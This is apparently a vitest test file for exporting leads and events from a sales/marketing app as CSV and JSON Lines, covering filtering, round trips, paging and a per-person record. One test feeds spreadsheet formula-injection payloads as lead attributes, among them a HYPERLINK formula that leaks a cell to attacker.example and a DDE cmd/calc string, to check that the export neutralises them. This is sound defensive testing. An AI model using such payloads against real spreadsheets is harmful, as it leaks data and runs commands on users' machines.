import { beforeEach, expect, test } from "vitest";
import type { Condition } from "../../src/conditions/condition.ts";
import { eventInput } from "../../src/events/input.ts";
import { wholeRecord } from "../../src/lifecycle/export-lead.run.ts";
import { exportEvents, exportLeads, type ExportFormat } from "../../src/lifecycle/export.run.ts";
import { compileFilter } from "../../src/lifecycle/filter.ts";
import { forEachDatabase } from "../database.ts";
import { act, created, openHouse, programmeOf, type House } from "../reps/house.ts";
import { attributesOf, bring, counts, fileOf, logOf } from "./import-house.ts";

const SEQUENCE = `
sequence: cold
enter: [{ temperature: cold }]
steps: [{ wait: 3d }]
`;

const programme = await programmeOf(undefined, { "config/sequences/cold.yaml": SEQUENCE });

forEachDatabase("exporting", (open) => {
  let house: House;

  beforeEach(async () => {
    house = await openHouse(await open(), programme);
    await house.arrive("a@x.example", created({ employees: 500, first_name: 'Ada "the first"' }), {
      kind: "set",
      owner: "maria",
    });
    await house.arrive(
      "b@x.example",
      created({ company: "Acme, Inc.\nLisbon" }),
      act("page.viewed", { path: "/" }),
    );
    await house.arrive("c@x.example", created({}), act("email.unsubscribed"));
  });

  async function leads(format: ExportFormat, from = house, where?: Condition): Promise<string> {
    const pieces: string[] = [];
    const filter = where ? compileFilter(where) : null;
    await exportLeads(from.spine, format, async (text) => void pieces.push(text), filter);
    return pieces.join("");
  }

  async function events(format: ExportFormat, from = house): Promise<string> {
    const pieces: string[] = [];
    await exportEvents(from.spine, format, async (text) => void pieces.push(text));
    return pieces.join("");
  }

  test("writes leads as CSV with a column for each attribute that anybody has", async () => {
    expect(await leads("csv")).toBe(
      "email,created_at,owner,stage,suppressed,company,employees,first_name\n" +
        'a@x.example,2026-03-02T10:00:00.000Z,maria,lead,,,500,"Ada ""the first"""\n' +
        'b@x.example,2026-03-02T10:00:00.000Z,,lead,,"Acme, Inc.\nLisbon",,\n' +
        "c@x.example,2026-03-02T10:00:00.000Z,,lead,unsubscribed,,,\n",
    );
  });

  test("writes no formula that a spreadsheet would run, and all comes back as it was", async () => {
    const written = {
      first_name: '=HYPERLINK("http://attacker.example/?"&A1,"me")',
      last_name: "@SUM(1+1)*cmd|' /C calc'!A0",
      company: "'=already text",
      job_title: "-2+3+cmd",
      phone: "+351 21 (99)",
      locale: "-5",
    };
    await house.arrive("=d@x.example", created(written));
    const csv = await leads("csv");
    expect(csv).not.toMatch(/(^|,|\n)"?[=@]/);
    expect(csv).toContain("+351 21 (99)");
    const other = await openHouse(await open(), programme);
    await bring(other.spine, await fileOf(csv));
    expect(await attributesOf(other.spine, "=d@x.example")).toMatchObject(written);
  });

  test("writes only those for whom a condition holds, and only the attributes that they have", async () => {
    const where: Condition = { any: [{ attribute: "company", matches: "acme*" }, { did: "page.viewed" }] };
    expect(await leads("csv", house, where)).toBe(
      "email,created_at,owner,stage,suppressed,company\n" +
        'b@x.example,2026-03-02T10:00:00.000Z,,lead,,"Acme, Inc.\nLisbon"\n',
    );
  });

  test("writes leads as JSON Lines that score reads too", async () => {
    const [first] = (await leads("jsonl")).split("\n");
    expect(JSON.parse(first!)).toEqual({
      email: "a@x.example",
      at: "2026-03-02T10:00:00.000Z",
      attributes: { employees: 500, first_name: 'Ada "the first"' },
      owner: "maria",
      stage: "lead",
      suppressed: null,
      paused_until: null,
    });
  });

  test("writes every event of every lead in order", async () => {
    const lines = (await events("jsonl")).trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line) as object)).toMatchObject([
      { email: "a@x.example", type: "lead.created", actor: "system", verdict: "human" },
      { email: "b@x.example", type: "lead.created" },
      { email: "b@x.example", type: "page.viewed", actor: "lead", properties: { path: "/" } },
      { email: "c@x.example", type: "lead.created" },
      { email: "c@x.example", type: "email.unsubscribed" },
    ]);
  });

  for (const format of ["csv", "jsonl"] as const) {
    test(`carries a house over to another, events first, as ${format}`, async () => {
      const other = await openHouse(await open(), programme);
      await bring(other.spine, await fileOf(await events(format), format), { kind: "events" });
      expect(counts(await bring(other.spine, await fileOf(await leads(format), format)))).toEqual({
        changed: 1,
        unchanged: 2,
      });
      expect(await leads(format, other)).toBe(await leads(format));
      expect(await events(format, other)).toBe(await events(format));
    });

    test(`carries a house over to another, leads first, as ${format}`, async () => {
      const other = await openHouse(await open(), programme);
      await bring(other.spine, await fileOf(await leads(format), format));
      await bring(other.spine, await fileOf(await events(format), format), { kind: "events" });
      expect(await leads(format, other)).toBe(await leads(format));
      expect(await logOf(other.spine, "a@x.example")).toEqual([
        "2026-03-02T10:00:00.000Z lead.created",
        "2026-03-02T10:00:00.000Z lead.updated",
      ]);
      expect(await attributesOf(other.spine, "a@x.example")).toEqual({
        employees: 500,
        first_name: 'Ada "the first"',
      });
    });
  }

  test("finds thousands of leads and events by pages, each once", async () => {
    const rows = Array.from({ length: 2100 }, (_, index) => `many${index}@x.example`);
    await bring(house.spine, await fileOf(`email\n${rows.join("\n")}\n`));
    const found = (await leads("jsonl")).trimEnd().split("\n");
    expect(found).toHaveLength(2103);
    expect(new Set(found).size).toBe(2103);
    expect(new Set((await events("jsonl")).trimEnd().split("\n")).size).toBe(2105);
  });

  test("tells all that is kept of one person", async () => {
    await house.arrive(
      "a@x.example",
      act("demo.requested"),
      act("consent.given", { topic: "news", words: "yes" }),
    );
    await house.arrive("a@x.example", eventInput("sequences.paused", "rep", { reason: "on the phone" }));
    const record = (await wholeRecord(house.spine, "a@x.example"))!;
    expect(Object.keys(record)).toEqual([
      "email",
      "exported_at",
      "attributes",
      "owner",
      "stage",
      "created_at",
      "paused_until",
      "confirmed",
      "suppressed",
      "suppression_list",
      "segments",
      "scores",
      "score_history",
      "consents",
      "log",
      "enrolments",
      "messages",
      "notices",
      "deals",
      "trials",
      "event_ids",
      "working_state",
      "merged_leads",
      "webhook_deliveries",
      "api_answers",
      "set_aside",
    ]);
    expect(record).toMatchObject({
      email: "a@x.example",
      owner: "maria",
      scores: [{ model: "default", temperature: "hot", at: "2026-03-02T10:00:00.000Z" }],
      score_history: [{ from_state: "cold", to_state: "hot", cause: "event", event: "demo.requested" }],
      consents: [{ type: "consent.given", properties: { topic: "news", words: "yes" } }],
      enrolments: [{ sequence: "cold", entered_at: "2026-03-02T10:00:00.000Z" }],
      notices: [{ kind: "hot", reason: { now: "hot" } }],
      deals: [{ stage: "open" }],
    });
    expect(JSON.stringify(record)).not.toMatch(/lead_id|message_key/);
    expect(await wholeRecord(house.spine, "nobody@x.example")).toBeNull();
    expect((await wholeRecord(house.spine, "c@x.example"))!["suppression_list"]).toMatchObject([
      { reason: "unsubscribed", source: "lead" },
    ]);
  });
});
